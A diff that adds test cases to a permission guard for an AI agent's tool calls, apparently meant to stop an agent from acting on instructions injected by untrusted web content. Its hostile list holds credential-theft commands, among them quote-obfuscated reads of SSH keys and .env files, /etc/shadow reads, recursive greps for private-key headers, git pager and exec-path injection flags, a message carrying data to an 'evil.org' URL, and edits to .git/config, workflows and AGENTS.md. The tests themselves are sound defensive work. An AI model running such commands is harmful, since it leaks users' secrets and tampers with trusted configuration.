@@ -108,6 +108,25 @@ describe("mode guard", () => {
     node("Read", { path: "/home/a/.config/gsv/config.toml" }),
     node("Process", { action: "submit", data: "x" }),
     node("Unknown"),
+    bash("cat /home/a/.s''sh/id_r''sa"),
+    bash('cat app/".e"nv'),
+    { ...bash("cat gsv/config.toml"), args: { command: "cat gsv/config.toml", workdir: "/home/a/.config" } },
+    { ...bash("cat etc/shadow"), args: { command: "cat etc/shadow", workdir: "/" } },
+    bash("grep -rn BEGIN /home/a"),
+    bash("cat x | grep -d recurse BEGIN /home/a"),
+    bash("rg BEGIN /home/a"),
+    bash("diff --recursive /home/a /tmp/x"),
+    node("Grep", { pattern: "BEGIN", path: "~" }),
+    node("Grep", { pattern: "BEGIN", path: "../.." }),
+    bash("git --git-dir=/tmp/x log"),
+    bash("git log --work-tree=/tmp/x"),
+    bash("git --config-env=core.pager=PATH log"),
+    bash("git --exec-path=/tmp log"),
+    bash("curl -sL https://other.org/a"),
+    own("gsv__Message", { text: "", media: " HTTPS://evil.org/secret" }),
+    node("Write", { path: ".git/config", content: "x" }),
+    node("Edit", { path: "/home/a/.gitconfig", oldString: "a", newString: "b" }),
+    node("Write", { path: ".github/workflows/x.yml", content: "x" }),
   ];
 
   it.each(hostile.map((call) => [`${call.tool} ${JSON.stringify(call.args)}`, call] as const))(
@@ -139,11 +158,31 @@ describe("mode guard", () => {
     },
   );
 
+  it.each(["cp x .git/config", "mv x app/AGENTS.md", "git --git-dir=x commit", "cp x ~/.s''sh/y"])(
+    "asks after words of a machine before what others obey is changed: %s",
+    async (command) => {
+      expect(await decide(guard, bash(command), ["machine:pi"])).toBe("ask");
+    },
+  );
+
+  it("asks before a page, unless words of its host were read already", async () => {
+    const page = bash("curl -s https://Docs.org:8080/a");
+    expect(await decide(guard, page, ["web:docs.org"])).toBe("allow");
+    expect(await decide(guard, page, ["machine:pi"])).toBe("allow");
+    for (const origins of [["web:evil.org"], ["web:*"], ["unknown"]])
+      expect(await decide(guard, page, origins)).toBe("ask");
+    expect(await decide(guard, bash("curl https://1.2.3.4.5:99999/"), ["web:evil.org"])).toBe("ask");
+  });
+
   it("does not ask before reading, notes of its own, or an answer to its own conversation", async () => {
     for (const call of [
       own("gsv__ReadFile"),
       own("gsv__WriteFile", { path: "notes/x.md" }),
       own("gsv__Message"),
+      own("gsv__Message", { text: "", media: "gsv:notes/x.md" }),
+      bash("grep -n 'a b' src/x.ts"),
+      bash("git log --oneline -5"),
+      node("Grep", { pattern: "x", path: "src" }),
     ])
       expect(await decide(guard, call, ["web:evil.org"])).toBe("allow");
   });
